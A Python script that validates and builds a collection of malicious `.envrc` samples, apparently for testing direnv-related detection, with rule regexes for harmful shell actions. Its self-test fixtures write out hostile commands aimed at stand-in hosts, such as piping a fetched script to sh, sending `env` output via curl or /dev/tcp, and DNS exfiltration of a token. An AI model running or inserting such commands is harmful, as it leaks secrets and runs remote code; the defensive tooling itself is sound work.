#!/usr/bin/env python3
"""Checks and builds the malicious `.envrc` samples. No sample is ever executed: not here, and not by what builds on it.

samples.py                 checks every rule of README.md about samples
samples.py --write         writes malicious.tsv and the counts of README.md anew
samples.py --counts        counts by kind, technique and half, as README.md shows them
samples.py --build OUT     writes OUT/<half>/<name>/files and, for a change, OUT/<half>/<name>/before; OUT lies outside the tree
samples.py --test          shows that planted faults are refused
"""
import collections, hashlib, os, pathlib, re, shutil, subprocess, sys, tempfile, tomllib

HERE = pathlib.Path(__file__).resolve().parent
FOLDER = HERE / "malicious"
CATALOGUE = """E101 E102 E103 E104 E105 E201 E202 E203 E204 E205 E206 E207 E208 E209 E210 E211 E301 E302 E303 E304 E305
E401 E402 E403 E404 E405 E406 E501 E502 E503 E504 E505 E601 E602 E603 E604 E901 E902 E903 E906
N01 N02 N03 N04 N05 N06 N07 N08 N09 N10 N11 N12""".split()
KINDS = ["plain", "edit", "files", "diff"]
NEEDED = {"techniques": list, "does": str, "carrier": str, "kind": str}
OPTIONAL = {"bash": bool, "executable": list, "ignored": list, "symlink": dict, "mode": dict, "rename": dict}
ESCAPE = re.compile(r"\\(?:x([0-9a-f]{2})|u\{([0-9a-f]+)\}|\{(\d+)\*([^}]*)\}|(\\))")

# Hosts. Names that RFC 2606 and addresses that RFC 5737 keep for documentation, and this machine.
INERT = re.compile(r"((^|.\.)(example|invalid)|^example\.com|^(192\.0\.2|198\.51\.100|203\.0\.113)\.\d+|^127\.0\.0\.1|^localhost)(-1)?$")
URL = re.compile(r"\b([a-z][a-z0-9+]*)://(?:[^/\s\"'@]*@)?([^/\s\"':?;)},&<>\\]*)|/dev/(tcp|udp)/([^/\s\"]+)/")
DOTTED = re.compile(r"(?<![\w.-])[\w-]+(?:\.[\w-]+)+")
# A dotted word that is no host: a version, a file by its ending, and what programs call their own.
VERSION = re.compile(r"\d+\.\d+(\.\d+)?")
FILE = re.compile(r"\.(bin|cjs|cnf|conf|d|db|debug|dylib|env|envrc|feature|gz|hex|jar|json|pem|png|service|sqlite|tgz|toml|tpl|txt|xz|yml)$")
# These endings are also top-level domains, so that the word has to be a path.
FILE_OR_HOST = re.compile(r"[^/]/[\w-]+\.(dev|git|md|pub|py|sh|so)$")
OWN_WORDS = set("""C.UTF-8 URI.open alias.sync base64.b64decode builtins.fetchurl builtins.readFile client.authentication.k8s.io
core.hooksPath core.pager core.sshCommand elpmaxe.emca os.environ process.argv.join r.on shop.settings.dev source.crates-io
source.mirror u.urlopen urllib.request urllib.request.urlopen""".split())
# Where a name is not resolved, a name server or a proxy may still answer; only TLS keeps what is sent from it.
BY_NAME = {"https", "op", "docker", "s3", "file", "sparse+https", "git+https"}
# What stays, destroys or gains rights, and what leaves the machine though nobody answers: such a line has to work with
# something named acme, which is on no machine.
HARM = [(re.compile(pattern), what) for pattern, what in [
    (r"(?<!-)\b(rm|rmdir|unlink|shred|truncate|mkfs\S*)\s|\s-delete\b|\bdd\b.*\bof=", "deletes or overwrites"),
    (r"\b(kill|pkill|killall|shutdown|reboot)\s", "ends programs"),
    (r"\b(sudo|doas|pkexec|su)\s+(-\S+\s+)*[./\w]|\bchmod\s+\S*\+s|\bsetcap\b", "gains rights"),
    (r"\b(crontab|systemctl|launchctl)\s|\bat\s+(-f|now)\b", "leaves a job"),
    (r">>?\s*\"?(~|\$HOME|\$\{HOME|/etc|/usr|/var|/srv)|\btee\b.*\s\"?(~|\$HOME|/etc|/var)", "writes outside the folder"),
    (r"\b(cp|mv|install|ln)\s.*\s\"?(~|\$HOME|\$units|\$cas|/etc|/usr|/var|/srv)", "writes outside the folder"),
    (r"\bsed\s+-i|>>?\s*\.(git|vscode|github)/|\bcp\s.*\s\.envrc\b", "edits a file"),
    (r"\bgit\s+config\s+(--global\s+)?\w+\.\w+\s+[^\s)]|\bgit\s+remote\s+add|\bnpm\s+config\s+set", "changes a configuration"),
    (r"\bdirenv\s+(allow|permit|grant|deny|prune)\b", "changes approvals"),
    (r"/dev/udp/|(?<![/\w-])(logger\s+-n|dig\s|host\s|nslookup\s|ping\s|getent\s+hosts)", "sends without an answer"),
]]
ACME = re.compile(r"acme", re.I)


def unescape(text):
    """An `.esc` file: \\xNN a byte, \\u{N} a character, \\{N*text} a repetition, \\\\ a backslash; no other backslash."""
    out, at = b"", 0
    for match in ESCAPE.finditer(text):
        between = text[at:match.start()]
        if "\\" in between:
            raise ValueError("a lone backslash")
        byte, char, times, what, slash = match.groups()
        out += between.encode()
        out += bytes.fromhex(byte) if byte else chr(int(char, 16)).encode() if char else (what * int(times)).encode() if times else b"\\"
        at = match.end()
    if "\\" in text[at:]:
        raise ValueError("a lone backslash")
    return out + text[at:].encode()


def real(stored, rename):
    """The path that a stored one stands for: no file of the tree has a name that a tool would load."""
    parts = ["." + part[4:] if part.startswith("dot-") else part for part in stored.parts]
    path = "/".join(parts).removesuffix(".esc")
    part, inner = path.split("/", 1)
    return f"{part}/{rename.get(inner, inner)}"


def files(folder, rename):
    """Real paths and bytes of one sample: `files/...`, and `before/...` where it is a change."""
    found = {}
    for path in sorted(folder.rglob("*")):
        stored = path.relative_to(folder)
        if path.is_symlink() or not (path.is_dir() or path.is_file()):
            raise ValueError(f"{stored} is no regular file")
        if path.is_dir() or str(stored) == "sample.toml":
            continue
        data = path.read_bytes()
        if stored.parts[0] not in ("files", "before"):
            raise ValueError(f"{stored} lies beside files/ and before/")
        if not (data + str(stored).encode()).isascii():
            raise ValueError(f"{stored} is not ASCII")
        if path.stat().st_mode & 0o111:
            raise ValueError(f"{stored} is executable")
        found[real(stored, rename)] = unescape(data.decode()) if path.suffix == ".esc" else data
    return found


def digest_of(found, about):
    """SHA-256 over path, NUL, length in decimal, NUL and bytes of each file, in the order of the paths' bytes; then the links."""
    state = hashlib.sha256()
    for path in sorted(found, key=str.encode):
        state.update(b"%s\0%d\0" % (path.encode(), len(found[path])) + found[path])
    for path, target in sorted(about.get("symlink", {}).items()):
        state.update(f"{path}\0->\0{target}".encode())
    return state.hexdigest()


def half_of(digest):
    return int(digest[-1], 16) % 2


def read(folder):
    """One sample: what `sample.toml` says, and its files. ValueError says what cannot be read."""
    if not (folder / "sample.toml").is_file():
        raise ValueError("no sample.toml")
    about = tomllib.loads((folder / "sample.toml").read_text())
    for key, value in about.items():
        if not isinstance(value, {**NEEDED, **OPTIONAL}.get(key, ())):
            raise ValueError(f"{key}: unknown, or of another type")
    for key in NEEDED.keys() - about.keys():
        raise ValueError(f"{key} is missing")
    return about, files(folder, about.get("rename", {}))


def every(folder=FOLDER):
    """Name, description, files and digest of each sample; those must be readable."""
    for path in sorted(folder.iterdir()):
        about, found = read(path)
        yield path.name, about, found, digest_of(found, about)


def parses(data):
    """Whether bash can parse it. With -n nothing runs."""
    bash = shutil.which("bash", path="/bin:/usr/bin:/usr/local/bin:/opt/homebrew/bin")
    run = subprocess.run([bash, "--norc", "--noprofile", "-n"], input=data, capture_output=True, env={"LC_ALL": "C.UTF-8"})
    return run.returncode == 0


def is_shell(path, data):
    return path.endswith((".envrc", ".sh", "direnvrc")) or re.match(rb"#!\S*(/env )?\S*\b(ba)?sh\b", data)


def hosts_of(text):
    """What is, or looks like, a host that is not kept for documentation."""
    for match in URL.finditer(text):
        scheme, host, device, address = match.groups()
        host = host or address or ""
        if scheme and (not host or scheme in ("op", "s3", "file")) or host.startswith("$"):
            continue
        if not INERT.search(host):
            yield f"{host} is no inert host"
        elif not host[0].isdigit() and host != "localhost" and (device or scheme not in BY_NAME):
            yield f"{host} is asked by name without TLS"
    for match in DOTTED.finditer(text):
        word, lead = match[0], text[max(0, match.start() - 2):match.end()]
        if not (INERT.search(word) or VERSION.fullmatch(word) or FILE.search(word) or FILE_OR_HOST.search(lead) or word in OWN_WORDS):
            yield f"{word} looks like a host"
    for match in re.finditer(r"\[[0-9a-f:]*::?[0-9a-f:]*\]", text):
        if not match[0].startswith("[2001:db8:"):
            yield f"{match[0]} looks like an address"


def harm_of(text):
    for line in text.splitlines():
        without_hosts = DOTTED.sub(lambda m: "" if INERT.search(m[0]) else m[0], line)
        for pattern, what in HARM:
            if pattern.search(line) and not ACME.search(without_hosts):
                yield f"{what}: {line.strip()[:80]}"


def wrong(name, about, found):
    """What breaks a rule in one sample."""
    if not re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name):
        yield "name: words of small letters and digits"
    if about["kind"] not in KINDS:
        yield f"kind: one of {' '.join(KINDS)}"
    if (about["kind"] == "diff") != any(path.startswith("before/") for path in found):
        yield "kind: a diff has before/, and nothing else has"
    techniques = about["techniques"]
    if not techniques or set(techniques) - set(CATALOGUE) or len(set(techniques)) < len(techniques):
        yield "techniques: some of the catalogue, each once"
    if not re.fullmatch(r"[A-Za-z.][ -~]{15,180}[.]", about["does"]):
        yield "does: a sentence"
    here = {path.removeprefix("files/") for path in found if path.startswith("files/")} | set(about.get("symlink", {}))
    named = [about["carrier"], *about.get("executable", []), *about.get("ignored", []), *about.get("mode", {}), *about.get("rename", {}).values()]
    for path in named:
        if path not in here:
            yield f"no file {path}"
    if not any(path.rsplit("/", 1)[-1] == ".envrc" for path in here):
        yield "no .envrc"
    if about["kind"] == "diff" and all(found.get("before/" + path) == found.get("files/" + path) for path in here):
        yield "nothing changes"
    for path, data in found.items():
        expected = about.get("bash", True) or path != f"files/{about['carrier']}"
        if is_shell(path, data) and parses(data) != expected:
            yield f"{path}: bash -n says otherwise"
        text = data.decode("utf-8", "replace")
        for problem in [*hosts_of(text), *harm_of(text)]:
            yield f"{path}: {problem}"


def problems(folder=FOLDER):
    """What is wrong in all samples, each by its name."""
    seen = {}
    for path in sorted(folder.iterdir()):
        try:
            about, found = read(path)
        except ValueError as error:
            yield f"{path.name}: {error}"
            continue
        for problem in wrong(path.name, about, found):
            yield f"{path.name}: {problem}"
        digest = digest_of(found, about)
        if digest in seen:
            yield f"{path.name}: the same files as {seen[digest]}"
        seen[digest] = path.name


def index():
    rows = ["name\tsha256\thalf\tkind\ttechniques\n"]
    for name, about, _, digest in every():
        rows.append(f"{name}\t{digest}\t{half_of(digest)}\t{about['kind']}\t{' '.join(about['techniques'])}\n")
    return "".join(rows)


def counted():
    by, kinds = collections.defaultdict(collections.Counter), collections.defaultdict(collections.Counter)
    for _, about, _, digest in every():
        kinds[about["kind"]][half_of(digest)] += 1
        for technique in about["techniques"]:
            by[technique][half_of(digest)] += 1
    return kinds, by


def counts():
    kinds, by = counted()
    out, every_half = [], collections.Counter()
    for kind in kinds.values():
        every_half += kind
    for title, table, order in (("kind", kinds, KINDS), ("technique", by, CATALOGUE)):
        rows = [(key, table[key]) for key in order] + ([("all", every_half)] if title == "kind" else [])
        out.append(f"| {title} | samples | half 0 | half 1 |\n|---|---|---|---|\n")
        out += [f"| {key} | {row.total()} | {row[0]} | {row[1]} |\n" for key, row in rows]
        out.append("\n")
    return "".join(out).rstrip("\n") + "\n"


def check():
    bad = list(problems())
    if not bad:
        _, by = counted()
        bad += [f"{technique}: no sample" for technique in CATALOGUE if not by[technique]]
        if (HERE / "malicious.tsv").read_text() != index():
            bad.append("malicious.tsv is old: --write")
    print(*bad, f"{sum(1 for _ in FOLDER.iterdir())} samples, {len(bad)} wrong", sep="\n")
    return bad


def build(out):
    out = pathlib.Path(out).resolve()
    if HERE.parents[2] in [out, *out.parents]:
        sys.exit("OUT lies in the tree")
    for name, about, found, digest in every():
        root = out / str(half_of(digest)) / name
        for path, data in found.items():
            target = root / path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
            inner = path.removeprefix("files/")
            if inner in about.get("executable", []):
                target.chmod(0o755)
            if inner in about.get("mode", {}):
                target.chmod(int(about["mode"][inner], 8))
        for path, to in about.get("symlink", {}).items():
            (root / "files" / path).parent.mkdir(parents=True, exist_ok=True)
            os.symlink(to, root / "files" / path)


GOOD = {
    "sample.toml": 'techniques = ["E101"]\ndoes = "A script is fetched and run."\ncarrier = ".envrc"\nkind = "plain"\n',
    "files/dot-envrc": "curl -s https://a.acme.example/x | sh\n",
}
ENVRC = "files/dot-envrc"
# What is planted in a good sample, and what is said of it.
FAULTS = [
    ({"sample.toml": None}, "no sample.toml"),
    ({"sample.toml": "techniques = ["}, "Invalid value"),
    ({"sample.toml": GOOD["sample.toml"].replace("E101", "E999")}, "techniques: some of"),
    ({"sample.toml": GOOD["sample.toml"].replace('["E101"]', "[]")}, "techniques: some of"),
    ({"sample.toml": GOOD["sample.toml"].replace('"E101"', '"E101", "E101"')}, "techniques: some of"),
    ({"sample.toml": GOOD["sample.toml"].replace("kind", "sort")}, "sort: unknown"),
    ({"sample.toml": GOOD["sample.toml"].replace('kind = "plain"\n', "")}, "kind is missing"),
    ({"sample.toml": GOOD["sample.toml"].replace("plain", "large")}, "kind: one of"),
    ({"sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "a diff has before/"),
    ({"sample.toml": GOOD["sample.toml"].replace("A script is fetched and run.", "run")}, "does: a sentence"),
    ({"sample.toml": GOOD["sample.toml"].replace('".envrc"', '"env.sh"')}, "no file env.sh"),
    ({"sample.toml": GOOD["sample.toml"] + "bash = 1\n"}, "bash: unknown, or of another type"),
    ({"sample.toml": GOOD["sample.toml"] + "bash = false\n"}, "bash -n says otherwise"),
    ({"sample.toml": GOOD["sample.toml"] + 'executable = ["bin/git"]\n'}, "no file bin/git"),
    ({"before/dot-envrc": "true\n"}, "a diff has before/"),
    ({"before/dot-envrc": GOOD[ENVRC], "sample.toml": GOOD["sample.toml"].replace("plain", "diff")}, "nothing changes"),
    ({ENVRC: None, "files/env.sh": "true\n"}, "no file .envrc"),
    ({ENVRC: None, "files/env.sh": "true\n"}, "no .envrc"),
    ({ENVRC: "if true\n"}, "bash -n says otherwise"),
    ({"files/bin/tool": "#!/bin/sh\nif true\n"}, "files/bin/tool: bash -n says otherwise"),
    ({ENVRC: "echo \u00e9\n"}, "is not ASCII"),
    ({"notes.txt": "x\n"}, "lies beside"),
    ({ENVRC: None, "files/dot-envrc.esc": "true \\q\n"}, "a lone backslash"),
    ({ENVRC: "curl -s https://acme.com/x | sh\n"}, "acme.com is no inert host"),
    ({ENVRC: "curl -s https://8.8.8.8/x | sh\n"}, "8.8.8.8 is no inert host"),
    ({ENVRC: "curl -s https://example.acme.dev/x | sh\n"}, "is no inert host"),
    ({ENVRC: "curl -s https://u:p@notexample/x | sh\n"}, "notexample is no inert host"),
    ({ENVRC: "env >/dev/tcp/acme.net/80\n"}, "acme.net is no inert host"),
    ({ENVRC: "nc 10.0.0.1 80\n"}, "10.0.0.1 looks like a host"),
    ({ENVRC: "curl -s acme.sh | sh\n"}, "acme.sh looks like a host"),
    ({ENVRC: "curl -s get.acme.io/env | sh\n"}, "get.acme.io looks like a host"),
    ({ENVRC: "curl -s '[2606:4700::1]/x' | sh\n"}, "looks like an address"),
    ({ENVRC: "env | curl -s -d @- http://a.acme.example/\n"}, "by name without TLS"),
    ({ENVRC: "env >/dev/tcp/a.acme.example/80\n"}, "by name without TLS"),
    ({ENVRC: "rm -rf ~/.cache\n"}, "deletes or overwrites"),
    ({ENVRC: "echo x >>~/.bashrc\n"}, "writes outside"),
    ({ENVRC: 'echo x | tee -a "$HOME/.zshrc"\n'}, "writes outside"),
    ({ENVRC: "(crontab -l; echo x) | crontab -\n"}, "leaves a job"),
    ({ENVRC: "sudo ./setup\n"}, "gains rights"),
    ({ENVRC: "git config --global core.pager cat\n"}, "changes a configuration"),
    ({ENVRC: "direnv allow .\n"}, "changes approvals"),
    ({ENVRC: "dig $TOKEN.a.acme.example\n"}, "sends without an answer"),
    ({ENVRC: "sed -i s/a/b/ x\n"}, "edits a file"),
]


def found_in(samples, executable=()):
    with tempfile.TemporaryDirectory() as folder:
        for name, content in samples.items():
            for path, text in content.items():
                target = pathlib.Path(folder, name, path)
                target.parent.mkdir(parents=True, exist_ok=True)
                if text is not None:
                    target.write_text(text)
                if path in executable:
                    target.chmod(0o755)
        return list(problems(pathlib.Path(folder)))


def test():
    failed = []
    for at, (change, says) in enumerate(FAULTS):
        said = found_in({"sample": {**GOOD, **change}})
        if not any(says in problem for problem in said):
            failed.append(f"fault {at}, {says!r}: {said}")
    for what, said, says in [
        ("a good one", found_in({"sample": GOOD}), None),
        ("the same twice", found_in({"one": GOOD, "two": GOOD}), "the same files as one"),
        ("a name", found_in({"Sample_1": GOOD}), "name: words"),
        ("an executable", found_in({"sample": GOOD}, [ENVRC]), "is executable"),
    ]:
        if bool(said) != bool(says) or says and not any(says in problem for problem in said):
            failed.append(f"{what}: {said}")
    if unescape("\\x00a\\u{3bf}\\{3*xy}\\\\") != b"\0a\xce\xbfxyxyxy\\":
        failed.append("unescape")
    one = digest_of({"files/a": b"bc"}, {})
    if one in (digest_of({"files/ab": b"c"}, {}), digest_of({"files/a": b"bc"}, {"symlink": {"b": "c"}})):
        failed.append("two samples have one digest")
    if (half_of("0" * 63 + "e"), half_of("0" * 63 + "f")) != (0, 1):
        failed.append("parity")
    print(*failed, f"{len(FAULTS) + 7} tests, {len(failed)} failed", sep="\n")
    return failed


def main(task):
    if task == []:
        sys.exit(1 if check() else 0)
    elif task == ["--test"]:
        sys.exit(1 if test() else 0)
    elif task == ["--write"]:
        (HERE / "malicious.tsv").write_text(index())
    elif task == ["--counts"]:
        print(counts(), end="")
    elif len(task) == 2 and task[0] == "--build":
        build(task[1])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
